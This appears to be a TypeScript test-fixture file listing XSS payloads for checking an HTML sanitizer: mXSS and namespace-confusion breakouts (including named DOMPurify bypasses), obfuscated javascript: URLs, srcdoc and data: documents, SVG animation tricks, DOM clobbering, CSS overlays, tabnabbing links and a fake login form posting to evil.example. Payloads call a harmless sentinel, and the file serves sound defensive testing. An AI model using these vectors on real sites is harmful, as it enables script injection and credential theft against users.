/**
 * Hostile article bodies. Every vector that could run script calls the page's sentinel
 * `__xss()` (or `parent.__xss()` from a frame), so a test can tell "neutralized" from "ran".
 *
 * Sources: the public DOMPurify bypass write-ups (Cure53 advisories, Michał Bentkowski's
 * mXSS research, the DOMPurify test suite's known payloads), the OWASP XSS filter evasion cheat
 * sheet, and PortSwigger's XSS cheat sheet. Payloads are rewritten to call the sentinel and to
 * avoid loading anything from the network (relative image URLs resolve to the test server).
 */

export type VectorCategory =
  | 'mxss'
  | 'scheme'
  | 'embedded-document'
  | 'meta-base'
  | 'svg-animation'
  | 'clobbering'
  | 'css'
  | 'tabnabbing'
  | 'event-handler'
  | 'embed'
  | 'script';

export interface Vector {
  name: string;
  category: VectorCategory;
  html: string;
}

const JS = 'javascript:__xss()';

/** `javascript:` spelled every way a browser still reads as `javascript:`. */
const schemeSpellings: Array<[string, string]> = [
  ['plain', JS],
  ['upper and mixed case', 'JaVaScRiPt:__xss()'],
  ['leading spaces', '   javascript:__xss()'],
  ['leading control characters', '&#x01;&#x02;&#x1f; javascript:__xss()'],
  ['leading NUL reference', '&#0;javascript:__xss()'],
  ['tab entity inside', 'java&#x09;script:__xss()'],
  ['newline entity inside', 'java&#x0A;script:__xss()'],
  ['carriage return entity inside', 'java&#13;script:__xss()'],
  ['literal tab and newline inside', 'jav\tas\ncript:__xss()'],
  ['named &Tab; and &NewLine;', 'jav&Tab;ascr&NewLine;ipt:__xss()'],
  [
    'decimal entities with semicolons',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss()',
  ],
  ['decimal entities without semicolons', '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58__xss()'],
  [
    'zero-padded decimal entities',
    '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__xss()',
  ],
  [
    'hex entities with semicolons',
    '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss()',
  ],
  ['hex entities without semicolons', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A__xss()'],
  [
    'zero-padded upper-case hex',
    '&#X00006A&#X000061&#X000076&#X000061&#X000073&#X000063&#X000072&#X000069&#X000070&#X000074&#X00003A__xss()',
  ],
  ['&colon;', 'javascript&colon;__xss()'],
  ['numeric colon', 'javascript&#58;__xss()'],
  ['partial entity (c)', 'javas&#99ript:__xss()'],
  ['zero-width space before', '&#x200B;javascript:__xss()'],
  ['comment-style payload', 'javascript://%0a__xss()'],
  ['percent-encoded scheme (must stay a harmless relative URL)', '%6Aavascript:__xss()'],
  ['vbscript', 'vbscript:__xss()'],
  ['data:text/html', 'data:text/html,<script>__xss()</script>'],
  ['data:text/html base64', 'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+'],
];

const schemeVectors: Vector[] = [
  ...schemeSpellings.map(([name, url]): Vector => ({
    name: `a href, ${name}`,
    category: 'scheme',
    html: `<p><a href="${url}">read more</a></p>`,
  })),
  { name: 'img src javascript:', category: 'scheme', html: `<img src="${JS}" alt="a">` },
  {
    name: 'img src data:image/svg+xml',
    category: 'scheme',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss()'/>">`,
  },
  {
    name: 'img src data:image/svg+xml base64',
    category: 'scheme',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iX194c3MoKSIvPg==">',
  },
  { name: 'img src hex-entity javascript:', category: 'scheme', html: '<img src="&#x6A;avascript:__xss()">' },
  { name: 'img srcset javascript:', category: 'scheme', html: `<img srcset="${JS} 1x" alt="a">` },
  {
    name: 'img srcset with one bad candidate among good ones',
    category: 'scheme',
    html: `<img src="a.jpg" srcset="a.jpg 1x, ${JS} 2x, c.jpg 3x" alt="a">`,
  },
  {
    name: 'img srcset data:image/svg+xml candidate',
    category: 'scheme',
    html: `<img srcset="data:image/svg+xml,<svg onload=__xss()> 2x" alt="a">`,
  },
  {
    name: 'svg a xlink:href',
    category: 'scheme',
    html: `<svg><a xlink:href="${JS}"><text y="20">x</text></a></svg>`,
  },
  { name: 'math href', category: 'scheme', html: `<math href="${JS}"><mi>x</mi></math>` },
  { name: 'form action', category: 'scheme', html: `<form action="${JS}"><input type="submit"></form>` },
  { name: 'button formaction', category: 'scheme', html: `<button formaction="${JS}">go</button>` },
  {
    name: 'input formaction',
    category: 'scheme',
    html: `<input type="image" src="a.png" formaction="${JS}">`,
  },
  { name: 'video poster', category: 'scheme', html: `<video poster="${JS}"></video>` },
  {
    name: 'table background',
    category: 'scheme',
    html: `<table background="${JS}"><tr><td>x</td></tr></table>`,
  },
  {
    name: 'td background',
    category: 'scheme',
    html: `<table><tr><td background="${JS}">x</td></tr></table>`,
  },
  { name: 'blockquote cite', category: 'scheme', html: `<blockquote cite="${JS}">quote</blockquote>` },
  {
    name: 'area href',
    category: 'scheme',
    html: `<map name="m"><area href="${JS}" shape="rect" coords="0,0,9,9"></map>`,
  },
  { name: 'img lowsrc/dynsrc', category: 'scheme', html: `<img lowsrc="${JS}" dynsrc="${JS}" src="a.png">` },
  {
    name: 'a ping',
    category: 'scheme',
    html: '<a href="https://news.example/" ping="https://evil.example/track">x</a>',
  },
];

export const corpus: Vector[] = [
  // --- mXSS and namespace confusion -------------------------------------------------------
  {
    name: 'svg > style > img',
    category: 'mxss',
    html: '<svg><style><img src=x onerror="__xss()"></style></svg>',
  },
  {
    name: 'svg > p > style > img',
    category: 'mxss',
    html: '<svg><p><style><img src=x onerror=__xss()></style></p></svg>',
  },
  {
    name: 'svg </p> style id breakout (DOMPurify 2.0.0)',
    category: 'mxss',
    html: '<svg></p><style><a id="</style><img src=1 onerror=__xss()>">',
  },
  {
    name: 'math mtext table mglyph style (DOMPurify 2.0.1)',
    category: 'mxss',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>',
  },
  {
    name: 'math mtext table mglyph style with closing tags',
    category: 'mxss',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss()&gt;">',
  },
  {
    name: 'form/math/mglyph nesting (DOMPurify 2.0.17)',
    category: 'mxss',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>',
  },
  {
    name: 'math mtext h1 a h6 mglyph svg style (DOMPurify 2.2.2)',
    category: 'mxss',
    html: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=__xss()>"></style></h1>',
  },
  {
    name: 'math mi mglyph svg mtext textarea path id',
    category: 'mxss',
    html: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__xss() src=1>"></textarea></mtext></svg></mglyph></mi></math>',
  },
  {
    name: 'noscript title breakout',
    category: 'mxss',
    html: '<noscript><p title="</noscript><img src=x onerror=__xss()>">',
  },
  {
    name: 'textarea title breakout',
    category: 'mxss',
    html: '<textarea><img title="</textarea><img src=x onerror=__xss()>"></textarea>',
  },
  {
    name: 'title element breakout',
    category: 'mxss',
    html: '<title><img title="</title><img src=x onerror=__xss()>"></title>',
  },
  {
    name: 'style element breakout',
    category: 'mxss',
    html: '<style><img title="</style><img src=x onerror=__xss()>"></style>',
  },
  {
    name: 'xmp breakout',
    category: 'mxss',
    html: '<xmp><img title="</xmp><img src=x onerror=__xss()>"></xmp>',
  },
  {
    name: 'noembed breakout',
    category: 'mxss',
    html: '<noembed><img title="</noembed><img src=x onerror=__xss()>"></noembed>',
  },
  {
    name: 'noframes breakout',
    category: 'mxss',
    html: '<noframes><img title="</noframes><img src=x onerror=__xss()>"></noframes>',
  },
  {
    name: 'iframe raw text breakout',
    category: 'mxss',
    html: '<iframe><img title="</iframe><img src=x onerror=__xss()>"></iframe>',
  },
  { name: 'svg CDATA', category: 'mxss', html: '<svg><![CDATA[><img src=x onerror=__xss()>]]></svg>' },
  {
    name: 'svg foreignObject',
    category: 'mxss',
    html: '<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>',
  },
  {
    name: 'math annotation-xml text/html',
    category: 'mxss',
    html: '<math><annotation-xml encoding="text/html"><img src=x onerror=__xss()></annotation-xml></math>',
  },
  {
    name: 'math mtext img',
    category: 'mxss',
    html: '<math><mtext><img src=x onerror=__xss()></mtext></math>',
  },
  { name: 'svg title img', category: 'mxss', html: '<svg><title><img src=x onerror=__xss()></title></svg>' },
  {
    name: 'math style img',
    category: 'mxss',
    html: '<math><style><img src=x onerror=__xss()></style></math>',
  },
  {
    name: 'escaped markup in svg style',
    category: 'mxss',
    html: '<svg><style>&lt;img src=x onerror=__xss()&gt;</style></svg>',
  },
  {
    name: 'svg a style title breakout',
    category: 'mxss',
    html: '<svg><a><style><a title="</style><img src=x onerror=__xss()>"></a></style></a></svg>',
  },
  { name: 'comment breakout', category: 'mxss', html: '<!--><img src=x onerror=__xss()>-->' },
  { name: 'comment --!> breakout', category: 'mxss', html: '<!-- --!><img src=x onerror=__xss()> -->' },
  {
    name: 'processing instruction',
    category: 'mxss',
    html: '<?xml-stylesheet > <img src=x onerror=__xss()> ?>',
  },
  {
    name: 'select style',
    category: 'mxss',
    html: '<select><style></select><img src=x onerror=__xss()></style>',
  },
  {
    name: 'deep nesting then svg style (DOMPurify 3.1 depth bypass)',
    category: 'mxss',
    html: `${'<div>'.repeat(520)}<svg><p><style><img src=x onerror=__xss()></style></p></svg>${'</div>'.repeat(520)}`,
  },
  {
    name: 'table foster-parenting with svg',
    category: 'mxss',
    html: '<table><svg><style><img src=x onerror=__xss()></style></svg></table>',
  },
  {
    name: 'template shadowrootmode (declarative shadow DOM)',
    category: 'mxss',
    html: '<div><template shadowrootmode="open"><img src=x onerror=__xss()></template></div>',
  },
  { name: 'plaintext swallows the rest', category: 'mxss', html: '<plaintext><img src=x onerror=__xss()>' },

  // --- URL schemes --------------------------------------------------------------------------
  ...schemeVectors,

  // --- embedded documents --------------------------------------------------------------------
  {
    name: 'iframe srcdoc',
    category: 'embedded-document',
    html: '<iframe srcdoc="<img src=x onerror=parent.__xss()>"></iframe>',
  },
  {
    name: 'iframe srcdoc entity-encoded script',
    category: 'embedded-document',
    html: '<iframe srcdoc="&lt;script&gt;parent.__xss()&lt;/script&gt;"></iframe>',
  },
  {
    name: 'srcdoc on an allowed element',
    category: 'embedded-document',
    html: '<p srcdoc="<script>__xss()</script>">x</p>',
  },
  {
    name: 'iframe data:text/html',
    category: 'embedded-document',
    html: '<iframe src="data:text/html,<script>parent.__xss()</script>"></iframe>',
  },
  {
    name: 'iframe javascript:',
    category: 'embedded-document',
    html: '<iframe src="javascript:parent.__xss()"></iframe>',
  },
  {
    name: 'object data:text/html',
    category: 'embedded-document',
    html: '<object data="data:text/html,<script>parent.__xss()</script>"></object>',
  },
  {
    name: 'embed data:image/svg+xml',
    category: 'embedded-document',
    html: '<embed src="data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;parent.__xss()&quot;/>">',
  },
  {
    name: 'frameset frame javascript:',
    category: 'embedded-document',
    html: '<frameset><frame src="javascript:parent.__xss()"></frameset>',
  },

  // --- meta and base ---------------------------------------------------------------------------
  {
    name: 'meta refresh javascript:',
    category: 'meta-base',
    html: '<meta http-equiv="refresh" content="0;url=javascript:__xss()">',
  },
  {
    name: 'meta refresh to another site',
    category: 'meta-base',
    html: '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  },
  {
    name: 'meta CSP injection',
    category: 'meta-base',
    html: '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><p>x</p>',
  },
  {
    name: 'base href javascript:',
    category: 'meta-base',
    html: '<base href="javascript:__xss()//"><a href="x">x</a>',
  },
  {
    name: 'base href another site',
    category: 'meta-base',
    html: '<base href="https://evil.example/"><a href="x">x</a><img src="y">',
  },
  {
    name: 'link rel=import',
    category: 'meta-base',
    html: '<link rel="import" href="https://evil.example/x.html">',
  },

  // --- SVG animation --------------------------------------------------------------------------
  {
    name: 'animate attributeName=href to javascript:',
    category: 'svg-animation',
    html: `<svg><a><animate attributeName="href" to="${JS}" begin="0s" /><text y="20">click</text></a></svg>`,
  },
  {
    name: 'animate values=javascript:',
    category: 'svg-animation',
    html: `<svg><a><animate attributeName="href" values="${JS}" /><text y="20">click</text></a></svg>`,
  },
  {
    name: 'set attributeName=href',
    category: 'svg-animation',
    html: `<svg><a><set attributeName="href" to="${JS}"/><text y="20">click</text></a></svg>`,
  },
  {
    name: 'set attributeName=xlink:href',
    category: 'svg-animation',
    html: `<svg><a><set attributeName="xlink:href" to="${JS}"/><text y="20">click</text></a></svg>`,
  },
  {
    name: 'animate onbegin',
    category: 'svg-animation',
    html: '<svg><animate onbegin="__xss()" attributeName="x" dur="1s"/></svg>',
  },
  {
    name: 'set onbegin',
    category: 'svg-animation',
    html: '<svg><set onbegin="__xss()" attributeName="x" to="1"/></svg>',
  },
  { name: 'discard onbegin', category: 'svg-animation', html: '<svg><discard onbegin="__xss()"/></svg>' },
  { name: 'svg image href', category: 'svg-animation', html: `<svg><image href="${JS}"/></svg>` },
  {
    name: 'svg use data: URL',
    category: 'svg-animation',
    html: "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss()'/></svg>#x\"/></svg>",
  },

  // --- DOM clobbering --------------------------------------------------------------------------
  { name: 'img name=cookie', category: 'clobbering', html: '<img name="cookie" src="a.png">' },
  {
    name: 'form id=location',
    category: 'clobbering',
    html: '<form id="location"><input name="href" value="javascript:__xss()"></form>',
  },
  {
    name: 'a id=defaultView',
    category: 'clobbering',
    html: '<a id="defaultView" href="https://news.example/">x</a>',
  },
  {
    name: 'img name=getElementById',
    category: 'clobbering',
    html: '<img name="getElementById" src="a.png">',
  },
  {
    name: 'a id/name pair (cid:)',
    category: 'clobbering',
    html: '<a id="x"></a><a id="x" name="y" href="cid:__xss()">x</a>',
  },
  { name: 'p id=__xss', category: 'clobbering', html: '<p id="__xss">shadow the sentinel</p>' },
  {
    name: 'form input name=attributes (sanitizer clobbering)',
    category: 'clobbering',
    html: '<form><input name="attributes"><input name="nodeName"><img src=x onerror=__xss()></form>',
  },
  {
    name: 'img name=body',
    category: 'clobbering',
    html: '<img name="body" src="a.png"><img name="documentElement" src="a.png">',
  },

  // --- CSS overlays and stylesheets ----------------------------------------------------------
  {
    name: 'fixed full-page overlay',
    category: 'css',
    html: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired, log in again</div>',
  },
  {
    name: 'style @import',
    category: 'css',
    html: '<style>@import url("https://evil.example/x.css");</style><p>x</p>',
  },
  {
    name: 'link stylesheet',
    category: 'css',
    html: '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>',
  },
  {
    name: 'style url(javascript:)',
    category: 'css',
    html: '<style>*{background:url("javascript:__xss()")}</style>',
  },
  {
    name: 'style attribute url(javascript:)',
    category: 'css',
    html: '<p style="background-image:url(javascript:__xss())">x</p>',
  },
  {
    name: 'style attribute expression()',
    category: 'css',
    html: '<p style="width:expression(__xss())">x</p>',
  },
  {
    name: 'class matching our styles',
    category: 'css',
    html: '<p class="news-article__overlay visually-hidden">x</p>',
  },
  {
    name: 'keyframes with onanimationstart',
    category: 'css',
    html: '<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart="__xss()">x</p>',
  },

  // --- reverse tabnabbing ----------------------------------------------------------------------
  {
    name: 'target=_blank without rel',
    category: 'tabnabbing',
    html: '<a target="_blank" href="https://evil.example/">x</a>',
  },
  {
    name: 'rel=opener',
    category: 'tabnabbing',
    html: '<a target="_blank" rel="opener" href="https://evil.example/">x</a>',
  },
  {
    name: 'external link without target',
    category: 'tabnabbing',
    html: '<a href="https://evil.example/">x</a>',
  },
  {
    name: 'target=_top',
    category: 'tabnabbing',
    html: '<a target="_top" href="https://evil.example/">x</a>',
  },
  {
    name: 'target=_parent on http',
    category: 'tabnabbing',
    html: '<a target="_parent" href="http://evil.example/">x</a>',
  },
  {
    name: 'form target=_blank',
    category: 'tabnabbing',
    html: '<form target="_blank" action="https://evil.example/"><button>go</button></form>',
  },

  // --- event handlers --------------------------------------------------------------------------
  { name: 'img onerror', category: 'event-handler', html: '<img src=x onerror=__xss()>' },
  { name: 'img onerror mixed case', category: 'event-handler', html: '<img src=x oNeRrOr=__xss()>' },
  { name: 'img onerror slash separators', category: 'event-handler', html: '<img/src=x/onerror=__xss()>' },
  {
    name: 'img onerror javascript: body',
    category: 'event-handler',
    html: '<img src=x onerror="javascript:__xss()">',
  },
  {
    name: 'img onerror entity-encoded body',
    category: 'event-handler',
    html: '<img src=x onerror="&#95;&#95;xss()">',
  },
  {
    name: 'img onload',
    category: 'event-handler',
    html: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=__xss()>',
  },
  { name: 'unclosed img onerror', category: 'event-handler', html: '<img src=x onerror=__xss()//' },
  { name: 'body onload', category: 'event-handler', html: '<body onload=__xss()><p>x</p></body>' },
  { name: 'svg onload', category: 'event-handler', html: '<svg onload=__xss()></svg>' },
  { name: 'input autofocus onfocus', category: 'event-handler', html: '<input autofocus onfocus=__xss()>' },
  {
    name: 'div contenteditable autofocus onfocus',
    category: 'event-handler',
    html: '<div contenteditable autofocus onfocus=__xss()>x</div>',
  },
  {
    name: 'details open ontoggle',
    category: 'event-handler',
    html: '<details open ontoggle=__xss()><summary>s</summary>x</details>',
  },
  { name: 'onpointerenter', category: 'event-handler', html: '<p onpointerenter=__xss()>x</p>' },
  { name: 'onmouseover', category: 'event-handler', html: '<p onmouseover="__xss()">x</p>' },
  {
    name: 'onclick on a link',
    category: 'event-handler',
    html: '<a href="https://news.example/" onclick="__xss()">x</a>',
  },
  { name: 'marquee onstart', category: 'event-handler', html: '<marquee onstart=__xss()>x</marquee>' },
  {
    name: 'video source onerror',
    category: 'event-handler',
    html: '<video><source onerror=__xss()></video>',
  },
  { name: 'audio onerror', category: 'event-handler', html: '<audio src=x onerror=__xss()></audio>' },
  {
    name: 'select autofocus onfocus',
    category: 'event-handler',
    html: '<select autofocus onfocus=__xss()></select>',
  },
  {
    name: 'textarea autofocus onfocus',
    category: 'event-handler',
    html: '<textarea autofocus onfocus=__xss()></textarea>',
  },
  { name: 'keygen autofocus onfocus', category: 'event-handler', html: '<keygen autofocus onfocus=__xss()>' },
  { name: 'iframe onload', category: 'event-handler', html: '<iframe onload=__xss()></iframe>' },
  { name: 'frameset onload', category: 'event-handler', html: '<frameset onload=__xss()></frameset>' },
  { name: 'object onerror', category: 'event-handler', html: '<object data="x" onerror=__xss()></object>' },
  {
    name: 'custom element onclick',
    category: 'event-handler',
    html: '<news-evil onclick=__xss()>x</news-evil>',
  },
  {
    name: 'onfocusin with tabindex',
    category: 'event-handler',
    html: '<p tabindex="0" autofocus onfocusin=__xss()>x</p>',
  },
  {
    name: 'onbeforetoggle popover',
    category: 'event-handler',
    html: '<div popover onbeforetoggle=__xss()>x</div>',
  },
  {
    name: 'table onpointerdown',
    category: 'event-handler',
    html: '<table onpointerdown=__xss()><tr><td>x</td></tr></table>',
  },

  // --- embedded content ------------------------------------------------------------------------
  {
    name: 'iframe from a non-allowlisted host',
    category: 'embed',
    html: '<iframe src="https://evil.example/"></iframe>',
  },
  {
    name: 'object data',
    category: 'embed',
    html: '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
  },
  { name: 'embed src', category: 'embed', html: '<embed src="https://evil.example/x.swf">' },
  {
    name: 'applet',
    category: 'embed',
    html: '<applet code="X.class" codebase="https://evil.example/"></applet>',
  },
  { name: 'portal', category: 'embed', html: '<portal src="https://evil.example/"></portal>' },
  { name: 'template script', category: 'embed', html: '<template><script>__xss()</script></template>' },
  { name: 'isindex action', category: 'embed', html: `<isindex action="${JS}" type="image" src="x">` },
  {
    name: 'form with button',
    category: 'embed',
    html: '<form action="https://evil.example/"><label>Password <input type="password" name="p"></label><button>Log in</button></form>',
  },

  // --- script elements ------------------------------------------------------------------------
  { name: 'script', category: 'script', html: '<script>__xss()</script>' },
  { name: 'script mixed case', category: 'script', html: '<ScRiPt>__xss()</sCrIpT>' },
  { name: 'script src data:', category: 'script', html: '<script src="data:,__xss()"></script>' },
  { name: 'script type=module', category: 'script', html: '<script type="module">__xss()</script>' },
  { name: 'double-open script', category: 'script', html: '<<script>__xss()//<</script>' },
  { name: 'svg script', category: 'script', html: '<svg><script>__xss()</script></svg>' },
  { name: 'svg script href', category: 'script', html: '<svg><script href="data:,__xss()"/></svg>' },
  { name: 'noscript script', category: 'script', html: '<noscript><script>__xss()</script></noscript>' },
];
